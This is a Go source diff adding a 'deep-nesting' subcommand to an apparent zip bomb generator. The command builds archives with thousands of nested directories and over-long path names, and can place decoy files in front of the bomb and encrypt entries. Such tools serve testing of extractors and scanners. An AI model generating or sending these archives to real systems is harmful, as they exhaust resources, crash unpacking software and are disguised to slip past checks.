@@ -0,0 +1,135 @@
+package cmd
+
+import (
+	"fmt"
+	"os"
+	"time"
+
+	"github.com/hupe1980/zipbomb/pkg/zipbomb"
+	"github.com/spf13/cobra"
+	"github.com/vbauerster/mpb/v8"
+)
+
+type deepNestingOptions struct {
+	depth            int
+	dirName          string
+	nameLength       int
+	noDirectories    bool
+	filename         string
+	archive          archiveOptions
+	verify           bool
+	decoys           []string
+	kernel           kernelOptions
+	compressionLevel int
+	method           string
+	encryption       encryptionOptions
+}
+
+func newDeepNestingCmd(rootOpts *rootOptions) *cobra.Command {
+	opts := &deepNestingOptions{}
+	cmd := &cobra.Command{
+		Use:   "deep-nesting",
+		Short: "Create a deep directory nesting and path-length bomb",
+		Long:  "Create an archive with a file nested thousands of directories deep, with explicit directory entries at each level and paths beyond PATH_MAX/NAME_MAX",
+		Example: `- zipbomb deep-nesting --depth 10000
+- zipbomb deep-nesting --depth 200 --name-length 300`,
+		SilenceUsage:  true,
+		SilenceErrors: true,
+		RunE: func(cmd *cobra.Command, args []string) error {
+			method, err := zipbomb.ParseMethod(opts.method)
+			if err != nil {
+				return err
+			}
+
+			encryption, err := opts.encryption.options()
+			if err != nil {
+				return err
+			}
+
+			archiveOpts, err := opts.archive.options()
+			if err != nil {
+				return err
+			}
+
+			kb, err := opts.kernel.kernel()
+			if err != nil {
+				return err
+			}
+
+			creatingStart := time.Now()
+
+			p := mpb.New(mpb.ContainerOptional(mpb.WithOutput(os.Stderr), true))
+
+			archive, err := createOutput(rootOpts.output, opts.verify)
+			if err != nil {
+				return err
+			}
+
+			defer archive.Close()
+
+			total := opts.depth + 1
+			if opts.noDirectories {
+				total = 1
+			}
+
+			bar := newProgressBar(p, fmt.Sprintf("[i] Creating %s", archive.Name()), int64(total))
+
+			zbomb, err := zipbomb.New(archive, archiveOpts)
+			if err != nil {
+				return err
+			}
+
+			if err = addDecoys(zbomb, opts.decoys); err != nil {
+				return err
+			}
+
+			if err = zbomb.AddDeepNesting(kb, opts.filename, opts.depth, func(o *zipbomb.DeepNestingOptions) {
+				o.CompressionLevel = opts.compressionLevel
+				o.Method = method
+				o.DirName = opts.dirName
+				o.NameLength = opts.nameLength
+				o.NoDirectories = opts.noDirectories
+				o.EncryptionOptions = encryption
+				o.OnFileCreateHook = func(name string) {
+					bar.Increment()
+				}
+			}); err != nil {
+				return err
+			}
+
+			if err = zbomb.Close(); err != nil {
+				return err
+			}
+
+			p.Wait()
+
+			creatingEnd := time.Now()
+
+			rep := newReport(cmd, archive.Name(), creatingEnd.Sub(creatingStart), zbomb.Report())
+
+			if opts.verify {
+				if err = verifyArchive(rep, archive.Path(), false); err != nil {
+					return err
+				}
+			}
+
+			return printReport(rootOpts, rep)
+		},
+	}
+
+	cmd.Flags().IntVarP(&opts.depth, "depth", "", 1000, "number of nested directories")
+	cmd.Flags().StringVarP(&opts.dirName, "dir-name", "", "d", "name of the directory at every level")
+	cmd.Flags().IntVarP(&opts.nameLength, "name-length", "", 0, "pad directory names to this length (e.g. > 255 for NAME_MAX)")
+	cmd.Flags().BoolVarP(&opts.noDirectories, "no-directories", "", false, "omit the explicit directory entries")
+	cmd.Flags().StringVarP(&opts.filename, "filename", "", "zipbomb.txt", "name of the nested file")
+	opts.archive.addFlags(cmd.Flags())
+
+	cmd.Flags().BoolVarP(&opts.verify, "verify", "", false, "verify zip archive")
+	cmd.Flags().StringSliceVarP(&opts.decoys, "decoy", "", nil, "ordinary file added in front of the bomb")
+	opts.kernel.addFlags(cmd.Flags(), []byte{'B'}, 1024*1024)
+	cmd.Flags().IntVarP(&opts.compressionLevel, "compression-level", "L", 5, "compression-level [-2, 9], ignored for repeated --kernel-bytes unless 0 or -2")
+	cmd.Flags().StringVarP(&opts.method, "method", "M", "deflate", "compression method (deflate|bzip2|store)")
+	opts.encryption.addFlags(cmd.Flags())
+
+	return cmd
+}